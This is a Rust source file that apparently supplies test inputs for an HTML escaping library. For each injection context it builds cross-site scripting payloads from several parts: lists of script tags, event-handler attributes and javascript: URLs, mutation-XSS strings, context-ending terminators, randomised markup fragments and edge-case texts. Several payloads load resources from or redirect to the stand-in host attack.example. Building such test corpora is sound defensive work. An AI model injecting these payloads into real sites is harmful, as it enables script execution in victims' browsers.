//! Attacks of our own: for each kind of place what ends it, and what would then run, load or ask.

use crate::contexts::Kind;
use crate::hosts::{addresses, candidates, parts};

/// What would run, ask or build, once it is markup.
#[rustfmt::skip]
pub(crate) const MARKUP: &[&str] = &[
    "<script>window.__ran=1</script>", "<img src=x onerror=alert(1)>", "<svg/onload=window.__ran=1>",
    "<script src=//attack.example/x></script>", "<iframe src=javascript:alert(1)>", "<base href=//attack.example/>",
    "<iframe srcdoc=\"<script>parent.__ran=1</script>\">", "<meta http-equiv=refresh content='0;url=//attack.example/'>",
    "<link rel=stylesheet href=//attack.example/>", "<style>@import'//attack.example/';</style>", "<object data=//attack.example/>",
    "<form action=//attack.example/><button autofocus onfocus=alert(1)>", "<input autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<embed src=//attack.example/>",
    "<template><script>alert(1)</script>", "<!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=//attack.example/ ?>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg><style><img src=x onerror=alert(1)></style>", "<select><option><script>alert(1)</script>", "<table><tr><td><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;svg onload=alert(1)>", "&lt", "&#0;&#13;&nbsp",
];

/// What would run or ask, once it is attributes.
#[rustfmt::skip]
pub(crate) const ATTRIBUTES: &[&str] = &[
    "onmouseover=alert(1)", "onerror=alert(1) src=x", "autofocus onfocus=window.__ran=1 tabindex=0", "style=background:url(//attack.example/)",
    "style=animation-name:x onanimationstart=alert(1)", "href=javascript:alert(1)", "srcset=//attack.example/", "formaction=javascript:alert(1)",
    "srcdoc='<script>parent.__ran=1</script>'", "onload=window.__ran=1", "contenteditable onblur=alert(1)", "is=x-y", "popover id=x", "=x", "/x/",
];

/// What ends the place.
fn ends(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Text | Kind::Noscript => &[
            "",
            "</p>",
            "</b></div>",
            "</td></tr></table>",
            "</option></select>",
            "</svg>",
            "</title></svg>",
            "-->",
            "]]>",
            "</noscript>",
            "</template>",
            "</pre>\n",
        ],
        Kind::Field => &[
            "</textarea>",
            "</title>",
            "</TITLE\t>",
            "</textarea/x>",
            "</title\n a=b>",
            "\n</textarea>",
            "</textarea ",
            "</style></title>",
            "</ti\0tle></title>",
        ],
        Kind::Page => &["</title>", "</TITLE\t>", "\">", "' ", "</body>"],
        Kind::Double | Kind::Id => &[
            "\"", "\">", "\" ", "\"\n", "\"/", "x\"\t", "&quot;>", "&#34; ", "\\\">",
        ],
        Kind::Single => &[
            "'", "'>", "' ", "'\n", "'/", "x'\t", "&#39;>", "&apos; ", "\\'>",
        ],
        Kind::Path | Kind::Query => &["\"", "'>", "/", "?", "#", "&a=b&", "%22>", "../", "\\"],
        Kind::Json => &[
            "</script>",
            "</SCRIPT >",
            "\"]</script>",
            "<!--<script>",
            "--></script>",
            "\\\"",
            "\u{2028}",
            "]]></script>",
        ],
        Kind::Number | Kind::Url | Kind::Candidate | Kind::Word => &[],
    }
}

/// At least 200 for each kind. The random ones come from a fixed seed.
pub(crate) fn attacks(kind: Kind) -> Vec<String> {
    match kind {
        Kind::Number => return numbers(),
        Kind::Url => return addresses(),
        Kind::Candidate => return candidates(),
        Kind::Word => return words(),
        _ => {}
    }
    let mut all = Vec::new();
    for end in ends(kind) {
        all.extend(MARKUP.iter().map(|markup| format!("{end}{markup}")));
        if kind != Kind::Text {
            all.extend(ATTRIBUTES.iter().map(|more| format!("{end} {more} ")));
        }
    }
    if matches!(kind, Kind::Path | Kind::Query) {
        all.extend(parts());
    }
    all.extend(mixed(kind as u64, 60));
    all.extend(edges());
    all
}

/// Pieces of markup in random order.
fn mixed(seed: u64, count: usize) -> Vec<String> {
    const PIECES: &[&str] = &[
        "<",
        ">",
        "\"",
        "'",
        "&",
        "/",
        "=",
        "!",
        "-",
        "--",
        "\n",
        "\r",
        "\t",
        "\u{c}",
        " ",
        "\0",
        ";",
        "#",
        "x",
        "<!--",
        "-->",
        "</",
        "/>",
        "script",
        "style",
        "title",
        "textarea",
        "svg",
        "math",
        "template",
        "onload",
        "=alert(1)",
        "&lt;",
        "&#x3c;",
        "&amp",
        "]]>",
        "`",
        "\u{2028}",
        "\u{FEFF}",
        "\u{FFFF}",
        "é",
        "🙂",
        "src",
        "javascript:",
        "{{",
        "}}",
        "${1}",
    ];
    let mut random = fastrand::Rng::with_seed(560 + seed);
    let mut texts = Vec::new();
    for _ in 0..count {
        let len = random.usize(1..14);
        texts.push(
            (0..len)
                .map(|_| PIECES[random.usize(..PIECES.len())])
                .collect(),
        );
    }
    texts
}

fn edges() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\n",
        "\r\n\r",
        "\0",
        "\u{FEFF}",
        "\u{85}\u{A0}\u{2028}",
        "&",
        "&#",
        "&#x",
        "&lt",
        "é€🙂\u{10FFFF}",
    ]
    .map(str::to_owned)
    .to_vec();
    // A long text is several nodes to the parser.
    texts.push("<b>".repeat(30_000));
    texts
}

/// Numbers as texts that give the same text again.
fn numbers() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for power in 0..=38 {
        let number = 10_i128.pow(power);
        all.extend([number, -number, number - 1, 1 - number].map(|number| number.to_string()));
    }
    all.extend([i128::MAX, i128::MIN].map(|number| number.to_string()));
    for number in [
        0.1,
        1.5,
        1e-7,
        1e21,
        1e300,
        f64::MAX,
        f64::MIN_POSITIVE,
        5e-324,
    ] {
        all.extend([number, -number].map(|number: f64| number.to_string()));
    }
    let mut random = fastrand::Rng::with_seed(560);
    all.extend((0..80).map(|_| random.i128(..).to_string()));
    all.extend((0..40).map(|_| (random.f64() - 0.5).to_string()));
    all.sort();
    all.dedup();
    all
}

/// Slugs that are names to a browser.
fn words() -> Vec<String> {
    let names = [
        "script",
        "onload",
        "href",
        "javascript",
        "constructor",
        "proto",
        "x",
        "1",
        "body",
        "hidden",
        "mark",
        "alert",
        "style",
        "srcdoc",
        "nonce",
    ];
    let pairs = names
        .iter()
        .flat_map(|a| names.iter().map(move |b| format!("{a}-{b}")));
    pairs.chain(names.map(str::to_owned)).collect()
}

#[test]
fn there_are_enough_for_every_kind() {
    for kind in Kind::ALL {
        let mut all = attacks(kind);
        all.sort();
        all.dedup();
        assert!(all.len() >= 200, "{kind:?}: {}", all.len());
    }
}
